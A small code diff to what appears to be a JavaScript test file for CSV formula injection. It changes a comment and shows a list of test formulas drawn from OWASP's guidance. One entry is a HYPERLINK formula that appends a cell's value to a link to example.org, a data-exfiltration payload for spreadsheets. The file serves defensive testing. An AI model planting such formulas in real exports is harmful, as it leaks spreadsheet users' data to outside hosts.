@@ -6,7 +6,7 @@ import { cli, cliJson } from "./command-line.js";
 
 const folder = useFolder();
 
-// What OWASP's page on CSV injection names, and forms that spreadsheets are known to take.
+// Prefixes that OWASP's page on CSV injection names, and forms that spreadsheets are known to take.
 const FORMULAS = [
   '=HYPERLINK("http://example.org?"&A1,"more")',
   "=1+1",
